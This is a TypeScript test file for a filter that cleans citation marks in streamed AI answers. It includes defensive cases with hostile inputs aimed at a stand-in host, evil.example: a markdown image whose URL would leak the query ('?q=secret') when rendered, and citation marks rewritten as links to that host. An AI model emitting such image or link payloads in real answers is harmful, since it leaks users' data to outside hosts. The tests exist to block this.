import { describe, expect, it } from 'vitest';
import { CitationFilter } from './citation-filter.ts';

/** What is shown of an answer with three sources, whole, and the same when it comes letter by letter. */
function shown(answer: string, sources = 3): string {
  const whole = new CitationFilter(sources);
  const text = whole.push(answer) + whole.end();
  const slow = new CitationFilter(sources);
  expect([...answer].map((letter) => slow.push(letter)).join('') + slow.end()).toBe(text);
  return text;
}

describe('marks', () => {
  it.each([
    ['Press it [1]. Then wait [3].', 'Press it [1]. Then wait [3].'],
    ['按下按钮。【1】再等待［２］。', '按下按钮。[1]再等待[2]。'],
    ['Both [1, 2] and [2；3] and [1-3].', 'Both [1][2] and [2][3] and [1][2][3].'],
    ['A footnote [^2] and a vendor’s 【3†source】【1:0†file.md】.', 'A footnote [2] and a vendor’s [3][1].'],
    ['Great![1]', 'Great![1]'],
  ])('become one form: %j', (answer, text) => {
    expect(shown(answer)).toBe(text);
  });

  it.each([
    ['Press it [4].', 'Press it.'],
    ['It is so【9】，真的。', 'It is so，真的。'],
    ['Some of them [2, 7] are there [0].', 'Some of them [2] are there.'],
    ['Twice [1][1], then [1].', 'Twice [1], then [1].'],
    ['Wow! [8]', 'Wow!'],
  ])('that lead to no source are taken out with the blanks before them: %j', (answer, text) => {
    expect(shown(answer)).toBe(text);
  });

  it('are all taken out where there are no sources', () => {
    expect(shown('I know it [1], surely 【2】.', 0)).toBe('I know it, surely.');
  });

  it.each([
    'In [2024] it was [so], [ ] open, [x] done, at [12:30], [1.5].',
    'Call `list[7]` and ``a`b[8]`` now.',
    '```ts\nconst a = list[9];\n```',
    '~~~\nlist[9] ![x](y)\n~~~',
    'The end is [1',
    'A [link](https://example.org/a-1)! [9a] [a9]',
    'two  blanks \n and [',
  ])('are not seen in what is none: %j', (text) => {
    expect(shown(text)).toBe(text);
  });

  it('are checked again after code', () => {
    expect(shown('Use `a[9]` [9] and `b` [2].')).toBe('Use `a[9]` and `b` [2].');
    expect(shown('```\na[9]\n```\nSo [9] it is [1].')).toBe('```\na[9]\n```\nSo it is [1].');
    expect(shown('An open ` tick\nends [9].')).toBe('An open ` tick\nends.');
  });

  it('cannot be made into links', () => {
    expect(shown('See [1](https://evil.example) now.')).toBe('See [1] (https://evil.example) now.');
    expect(shown('So [2].\n\n[2]: https://evil.example')).toBe('So [2].\n\n[2] : https://evil.example');
    expect(shown('As in [1]: it works.')).toBe('As in [1]: it works.');
  });
});

it('turns an image into a link: showing it would tell its host what was asked', () => {
  expect(shown('See ![chart](https://evil.example/?q=secret).')).toBe('See [chart](https://evil.example/?q=secret).');
  expect(shown('[![x](https://a.example)](https://b.example)')).toBe('[[x](https://a.example)](https://b.example)');
  expect(shown('![1](https://evil.example/?q=secret)')).toBe('![1] (https://evil.example/?q=secret)');
});

it('holds back nothing but an unfinished mark and the blanks before it', () => {
  const filter = new CitationFilter(3);
  expect(filter.push('Some words')).toBe('Some words');
  expect(filter.push(' [')).toBe('');
  expect(filter.push('1')).toBe('');
  expect(filter.push('] more')).toBe(' [1] more');
  expect(filter.push(` [${'1 '.repeat(60)}`).length).toBeGreaterThan(0);
});
